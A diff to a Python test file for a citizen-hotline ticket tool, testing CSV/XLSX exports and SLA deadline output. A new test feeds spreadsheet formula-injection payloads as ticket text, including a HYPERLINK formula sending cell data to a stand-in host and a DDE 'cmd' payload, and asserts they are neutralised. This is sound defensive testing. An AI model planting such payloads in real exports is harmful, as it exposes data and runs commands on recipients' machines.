@@ -47,7 +47,8 @@ async def test_tickets_list_show_export(tmp_path, capsys):
     out_csv = tmp_path / "t.csv"
     run, args = _parse(["tickets", "export", "--format", "csv", "--output", str(out_csv), "--db", str(db)])
     assert await _in_thread(run, args) == 0
-    rows = list(csv.DictReader(out_csv.open(encoding="utf-8")))
+    assert out_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Chinese right
+    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig")))
     assert [r["number"] for r in rows] == [number] and rows[0]["state"] == "办理中"
     out_jsonl = tmp_path / "t.jsonl"
     run, args = _parse(
@@ -56,6 +57,61 @@ async def test_tickets_list_show_export(tmp_path, capsys):
     assert await _in_thread(run, args) == 0
     row = json.loads(out_jsonl.read_text(encoding="utf-8").splitlines()[0])
     assert row["phone"] == "138****5678"
+
+
+async def test_exports_open_in_a_spreadsheet_and_formulas_are_neutralised(tmp_path, capsys):
+    from openpyxl import load_workbook
+
+    db = tmp_path / "t.db"
+    service = await make_service(db, FixedClock(at(2026, 11, 20, 10, 0)))
+    evil = [
+        '=HYPERLINK("http://x.example/?"&A1,"点我")',
+        "+1+2",
+        "-3+4",
+        "@SUM(A1:A2)",
+        "=1+1",
+    ]
+    numbers = []
+    for text in evil:
+        t = await service.create(
+            citizen_id="c1", description=text, category="其他", place="=cmd|' /C calc'!A0"
+        )
+        numbers.append(t.number)
+    plain = await service.create(citizen_id="c2", description="路灯不亮，人民路1号", category="其他")
+    await service.store.close()
+
+    out_xlsx = tmp_path / "t.xlsx"
+    assert (
+        await _in_thread(
+            main, ["tickets", "export", "--format", "xlsx", "-o", str(out_xlsx), "--db", str(db)]
+        )
+        == 0
+    )
+    sheet = load_workbook(out_xlsx).active
+    header, *rows = [[c.value for c in r] for r in sheet.iter_rows()]
+    by_number = {r[header.index("number")]: r for r in rows}
+    assert set(by_number) == {*numbers, plain.number}
+    for number, text in zip(numbers, evil, strict=True):
+        cells = by_number[number]
+        assert cells[header.index("description")] == "'" + text  # shown as typed, never run
+        assert cells[header.index("place")] == "'=cmd|' /C calc'!A0"
+    assert by_number[plain.number][header.index("description")] == "路灯不亮，人民路1号"
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.value  # no formula cell anywhere
+
+    out_csv = tmp_path / "t.csv"
+    assert (
+        await _in_thread(main, ["tickets", "export", "--format", "csv", "-o", str(out_csv), "--db", str(db)])
+        == 0
+    )
+    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig")))
+    assert {r["description"] for r in rows if r["number"] in numbers} == {"'" + t for t in evil}
+    assert all(not v.startswith(("=", "+", "-", "@", "\t")) for r in rows for v in r.values())
+
+    # xlsx needs a file: stdout gets a clear refusal, not binary noise
+    assert await _in_thread(main, ["tickets", "export", "--format", "xlsx", "--db", str(db)]) == 2
+    assert "--output" in capsys.readouterr().err
 
 
 async def test_missing_database_is_a_clear_error(tmp_path, capsys):
@@ -79,7 +135,24 @@ def test_sla_deadlines_prints_iso_times_and_marks_provisional(capsys):
         "contact\t2026-12-20T12:00:00+08:00",
         "feedback\t2026-12-22T00:00:00+08:00",
         "resolve\t2027-01-05T00:00:00+08:00\t暂定",
+        "dispatch\t2026-12-21T10:00:00+08:00",  # 签收 within 24 hours (the everyday tier)
     ]
+    # a type's own windows: a 咨询 is resolved within three working days
+    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "咨询"]) == 0
+    assert capsys.readouterr().out.splitlines()[2] == "resolve\t2026-12-24T00:00:00+08:00"
+    # urgent: the emergency tier (signed for within an hour), and a 建议's 15 days never beat urgent's 3
+    assert (
+        main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "建议", "--priority", "urgent"])
+        == 0
+    )
+    lines = capsys.readouterr().out.splitlines()
+    assert (
+        lines[2] == "resolve\t2026-12-24T00:00:00+08:00" and lines[3] == "dispatch\t2026-12-20T11:00:00+08:00"
+    )
+    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--tier", "utilities"]) == 0
+    assert capsys.readouterr().out.splitlines()[3] == "dispatch\t2026-12-20T12:00:00+08:00"
+    assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--type", "抱怨"]) == 2
+    assert "可选：咨询、求助、投诉、建议、举报、表扬" in capsys.readouterr().err
     assert main(["sla", "deadlines", "--start", "2026-12-20 10:00", "--category", "公安政法"]) == 0
     assert capsys.readouterr().out.splitlines()[2] == "resolve\t2026-12-26T00:00:00+08:00"
     assert main(["sla", "deadlines", "--start", "2026-12-20T10:00+08:00", "--priority", "urgent"]) == 0
